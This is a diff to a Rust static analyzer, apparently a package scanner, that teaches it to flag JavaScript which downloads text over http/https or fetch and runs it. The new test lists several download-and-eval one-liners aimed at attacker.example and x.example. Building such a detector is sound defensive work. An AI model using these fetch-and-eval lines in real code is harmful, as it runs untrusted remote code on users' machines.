@@ -9,10 +9,10 @@ use std::collections::HashMap;
 
 use oxc_allocator::Allocator;
 use oxc_ast::ast::{
-    Argument, ArrayExpressionElement, AssignmentExpression, AssignmentTarget, BinaryOperator,
-    BindingPattern, CallExpression, Expression, FormalParameters, ImportDeclaration,
-    ImportDeclarationSpecifier, NewExpression, ObjectPropertyKind, TaggedTemplateExpression,
-    TemplateLiteral, VariableDeclarator,
+    Argument, ArrayExpressionElement, AssignmentExpression, AssignmentOperator, AssignmentTarget,
+    BinaryOperator, BindingPattern, CallExpression, Expression, FormalParameters,
+    ImportDeclaration, ImportDeclarationSpecifier, NewExpression, ObjectPropertyKind,
+    TaggedTemplateExpression, TemplateLiteral, VariableDeclarator,
 };
 use oxc_ast_visit::{walk, Visit};
 use oxc_parser::Parser;
@@ -105,7 +105,12 @@ impl<'a> Visit<'a> for Walker {
 
     fn visit_assignment_expression(&mut self, it: &AssignmentExpression<'a>) {
         if let AssignmentTarget::AssignmentTargetIdentifier(id) = &it.left {
-            let v = self.eval(&it.right);
+            let mut v = self.eval(&it.right);
+            if it.operator == AssignmentOperator::Addition {
+                // `d += chunk`
+                let old = self.env.get(id.name.as_str()).cloned();
+                v = old.unwrap_or(Val::Unknown).concat(&v);
+            }
             self.env.insert(id.name.as_str().to_string(), v);
         }
         walk::walk_assignment_expression(self, it);
@@ -121,9 +126,22 @@ impl<'a> Visit<'a> for Walker {
                         self.bind_params(params, Val::Name(m.to_string()));
                     }
                 }
+                // `https.get(url, res => …)`: the callback gets the download.
+                if matches!(
+                    q.as_str(),
+                    "http.get" | "https.get" | "http.request" | "https.request"
+                ) {
+                    self.bind_callbacks(&it.arguments, Val::Downloaded);
+                }
                 self.call_effects(&q, &args);
             }
-            Some(Callee::Method(recv, m)) => self.method_effects(&recv, &m, &args),
+            Some(Callee::Method(recv, m)) => {
+                // `res.on('data', c => …)`, `fetch(u).then(r => …)`.
+                if recv == Val::Downloaded {
+                    self.bind_callbacks(&it.arguments, Val::Downloaded);
+                }
+                self.method_effects(&recv, &m, &args)
+            }
             None => {}
         }
         walk::walk_call_expression(self, it);
@@ -159,6 +177,15 @@ fn callback_params<'b, 'a>(arg: &'b Argument<'a>) -> Option<&'b FormalParameters
 }
 
 impl Walker {
+    /// Bind the first parameter of every callback argument to `v`.
+    fn bind_callbacks(&mut self, args: &[Argument<'_>], v: Val) {
+        for a in args {
+            if let Some(params) = callback_params(a) {
+                self.bind_params(params, v.clone());
+            }
+        }
+    }
+
     fn bind_params(&mut self, params: &FormalParameters<'_>, v: Val) {
         if let Some(first) = params.items.first() {
             self.bind(&first.pattern, v);
@@ -620,5 +647,24 @@ mod tests {
         );
         assert!(js("console.log(process.versions.node)").is_empty());
         assert!(js("function f(p){ require('fs').rmSync(p) }").is_empty());
+    }
+
+    #[test]
+    fn evals_downloaded_text() {
+        for code in [
+            "require('https').get('https://attacker.example/s.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})",
+            "const https = require('https'); https.get('https://x.example/a.js', function (res) { let body = ''; res.on('data', (c) => { body += c; }); res.on('end', () => { new Function(body)(); }); });",
+            "fetch('https://x.example/a.js').then(r => r.text()).then(t => eval(t))",
+            "const r = await fetch('https://x.example/a.js'); eval(await r.text())",
+        ] {
+            let f = js(code);
+            assert!(f.evals_downloaded, "{code}");
+        }
+        for code in [
+            "const d = JSON.parse(require('fs').readFileSync('data.json','utf8')); eval(JSON.parse(d))",
+            "require('https').get('https://registry.npmjs.org/x', r => { let d=''; r.on('data', c => d += c); r.on('end', () => console.log(JSON.parse(d).version)) })",
+        ] {
+            assert!(!js(code).evals_downloaded, "{code}");
+        }
     }
 }
